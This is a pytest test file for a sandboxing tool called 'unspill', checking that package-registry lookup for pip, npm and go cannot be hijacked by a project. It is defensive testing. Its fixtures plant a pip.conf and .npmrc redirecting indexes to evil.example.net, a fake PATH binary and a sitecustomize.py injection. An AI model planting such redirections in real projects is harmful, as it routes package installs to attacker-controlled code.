# SPDX-License-Identifier: Apache-2.0
"""Package managers of this machine are asked which hosts they are configured for, and installs reach those alone.

A project must not answer in their place: each trick works where the project is not hidden from them.
"""

import os
import pwd
import re
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from tests.kernel.internet import Internet, internet
from tests.kernel.internet_program import PRIVATE
from tests.support import Ground
from unspill.model.permission import Egress, Question
from unspill.network.registries import find_registries
from unspill.permissions.approvers import Callback

if TYPE_CHECKING:
    from unspill.model.policy import Registry

pytestmark = [pytest.mark.kernel, pytest.mark.timeout(300)]

EVIL = "evil.example.net"
PIP = "python3 -m pip install --disable-pip-version-check --no-cache-dir --retries 1 -q --target lib"
DOCUMENT = Path(__file__).parents[2].joinpath("docs/network.md")
# What shows that the package of the document is there
PROOFS = {
    "pip": ("PYTHONPATH=vendor python3 -c 'import iniconfig; print(iniconfig.__name__)'", "iniconfig"),
    "npm": ("node -p 'require(\"is-number\")(7)'", "true"),
}
ASKS = {
    "pip": ["python3", "-m", "pip", "download", "-q", "--no-deps", "--no-cache-dir", "--retries", "0", "iniconfig"],
    "npm": ["npm", "view", "is-number", "version", "--fetch-retries=0"],
}


@pytest.fixture(scope="module")
def net(tmp_path_factory: pytest.TempPathFactory, trusted_bwrap: bytes) -> Iterator[Internet]:
    with internet(tmp_path_factory.mktemp("internet"), trusted_bwrap) as made:
        yield made


@pytest.fixture
def persons_own(monkeypatch: pytest.MonkeyPatch) -> None:
    """Have the tools read what the person who runs the tests has configured: their home is another one here."""
    home = Path(pwd.getpwuid(os.getuid()).pw_dir)
    for name, path in (("PIP_CONFIG_FILE", ".config/pip/pip.conf"), ("NPM_CONFIG_USERCONFIG", ".npmrc")):
        if (home / path).is_file() and name not in os.environ:
            monkeypatch.setenv(name, os.fspath(home / path))


@pytest.mark.usefixtures("persons_own")
@pytest.mark.parametrize("tool", PROOFS)
def test_a_real_package_is_installed_with_this_machines_own_configuration(
    tool: str, ground: Ground, tmp_path: Path
) -> None:
    asked = subprocess.run(ASKS[tool], cwd=tmp_path, capture_output=True, timeout=120, check=False)
    if asked.returncode:
        pytest.skip(f"no registry answers the {tool} of this machine")
    (said,) = re.findall(rf"^unspill run --allow-registry {tool} -- (.*)$", DOCUMENT.read_text("utf-8"), re.MULTILINE)
    proof, printed = PROOFS[tool]

    def answer(question: Question) -> bool:
        return isinstance(question.request, Egress) and question.request.registries == (tool,)

    result = ground.sandbox().run(f"{said} && {proof}", registries=[tool], approver=Callback(answer), timeout=120)
    assert result.stdout.kept().decode().split()[-1:] == [printed], result.text()
    assert result.connections
    assert result.denials == ()


def test_a_project_decides_nothing_of_what_the_tools_answer(ground: Ground) -> None:
    project = ground.project
    ground.write("pip.conf", f"[global]\nindex-url = http://{EVIL}/simple\n")
    ground.write("npmrc", f"registry=http://{EVIL}/\n")
    ground.write("bin/go", f"#!/bin/sh\necho http://{EVIL}\n").chmod(0o755)
    (ground.home / ".npmrc").symlink_to(project / "npmrc")
    environ = {
        b"HOME": os.fsencode(ground.home),
        b"PATH": os.fsencode(f"{project}/bin:{os.environ['PATH']}"),
        b"PIP_CONFIG_FILE": os.fsencode(project / "pip.conf"),
    }
    tools: tuple[Registry, ...] = ("pip", "npm", "go")
    hidden = os.fsencode(os.path.realpath(project))
    said = find_registries(tools, bwrap=ground.bwrap, hidden=[hidden], environ=environ)
    assert EVIL not in repr(said)
    assert len(said.variables) >= len(tools)
    # The control arm: where the project is not hidden, it answers for each of them
    believed = find_registries(tools, bwrap=ground.bwrap, hidden=[], environ=environ)
    assert [str(value).count(EVIL) for _name, value in believed.variables][:2] == [1, 1]
    assert dict(believed.variables)[b"GOPROXY"] == f"http://{EVIL}".encode()


def test_variables_that_make_a_tool_run_something_never_reach_it(ground: Ground) -> None:
    ground.write("sitecustomize.py", f"print('* http://{EVIL}/simple/pip/')\n")
    environ = {b"PATH": os.environb[b"PATH"], b"HOME": os.fsencode(ground.home), b"PYTHONPATH": b"%b"}
    environ[b"PYTHONPATH"] = os.fsencode(ground.project)
    control = subprocess.run([b"pip", b"--version"], env=environ, capture_output=True, timeout=60, check=True)
    assert EVIL.encode() in control.stdout
    # Even where the directory itself is not hidden
    assert EVIL not in repr(find_registries(["pip"], bwrap=ground.bwrap, hidden=[], environ=environ))


def test_a_tool_that_only_a_project_has_is_not_run(ground: Ground) -> None:
    ground.write("cargo", "#!/bin/sh\n").chmod(0o755)
    found = find_registries(
        ["cargo"],
        bwrap=ground.bwrap,
        hidden=[os.fsencode(os.path.realpath(ground.project))],
        environ={b"HOME": b"/", b"PATH": os.fsencode(ground.project) + b":/bin:/usr/bin"},
    )
    assert found.problems == ("cargo is not installed, or only inside the project",)


def test_a_mirror_of_a_private_network_serves_what_the_person_configured(net: Internet) -> None:
    conf = net.directory / "home" / ".config" / "pip" / "pip.conf"
    conf.parent.mkdir(parents=True, exist_ok=True)
    conf.write_text("[global]\nindex-url = http://mirror.lan/simple\ntrusted-host = mirror.lan\n")
    command = f"{PIP} demo && PYTHONPATH=lib python3 -c 'import demo'"
    result = net.run(command, bounds={"registries": ("pip",)})
    assert result.stdout.kept() == b"demo of pip\n", result.text()
    assert {address for address, _port in net.met()} == {PRIVATE}
    # The control arms: not without the setting, and nothing else of that network with it
    assert not net.run("curl -sSf http://mirror.lan/hello").ok
    get = "curl -sSf http://private.example.org/hello; curl -sSf http://mirror.lan:8443/"
    other = net.run(get, bounds={"registries": ("pip",)})
    assert {(no.host, no.rule) for no in other.denials} == {("private.example.org", "host"), ("mirror.lan", "port")}


@pytest.mark.parametrize(
    ("index", "links_to", "is_private"),
    [("mirror.lan", "files.lan", True), ("pip.example.org", "private.example.org", False)],
)
def test_only_an_index_of_a_private_network_leads_to_other_private_hosts(
    index: str, links_to: str, is_private: bool, net: Internet
) -> None:
    page = net.directory / "files" / "simple" / "pip" / "index.html"
    page.parent.mkdir(exist_ok=True)
    page.write_text(f'<a href="http://{links_to}/pip-1.0.tar.gz">pip-1.0.tar.gz</a>')
    conf = net.directory / "home" / ".config" / "pip" / "pip.conf"
    conf.parent.mkdir(parents=True, exist_ok=True)
    conf.write_text(f"[global]\nindex-url = http://{index}/simple\ntrusted-host = {index}\n")
    (net.directory / "state" / "registries.json").unlink(missing_ok=True)
    result = net.run(f"curl -sSf http://{links_to}/hello", bounds={"registries": ("pip",)})
    assert result.ok is is_private, result.text()
    assert [denial.rule for denial in result.denials] == ([] if is_private else ["address"])


def test_the_answer_is_kept_for_an_hour_and_asked_anew_by_the_option(net: Internet) -> None:
    kept = net.directory / "state" / "registries.json"
    kept.unlink(missing_ok=True)
    conf = net.directory / "home" / ".npmrc"
    conf.write_text("registry=http://mirror.lan/\n")
    get = "printenv npm_config_registry"
    assert net.run(get, bounds={"registries": ("npm",)}).stdout.kept() == b"http://mirror.lan/\n"
    conf.write_text("registry=http://nexus:8443/\n")
    assert net.run(get, bounds={"registries": ("npm",)}).stdout.kept() == b"http://mirror.lan/\n"
    assert net.run(get, registries=["npm"]).stdout.kept() == b"http://nexus:8443/\n"
    assert net.run(get, bounds={"registries": ("npm",)}).stdout.kept() == b"http://nexus:8443/\n"


def test_a_mirror_on_this_machine_is_named_as_one_that_must_be_exposed(net: Internet) -> None:
    (net.directory / "home" / ".npmrc").write_text("registry=http://127.0.0.1:4873/\n")
    with pytest.raises(Exception, match=r"127\.0\.0\.1:4873 can never be allowed.*--expose PORT"):
        net.run("true", registries=["npm"])
    (net.directory / "home" / ".npmrc").unlink()


def test_the_project_has_no_say_in_which_registries_are_allowed(net: Internet) -> None:
    (net.project / ".unspill.toml").write_text('[network]\nregistries = ["pip"]\n')
    done = net.cli("run", "--", "true")
    (net.project / ".unspill.toml").unlink()
    assert done.returncode != 0
    assert "network.registries: pip is not in your own list" in done.stderr
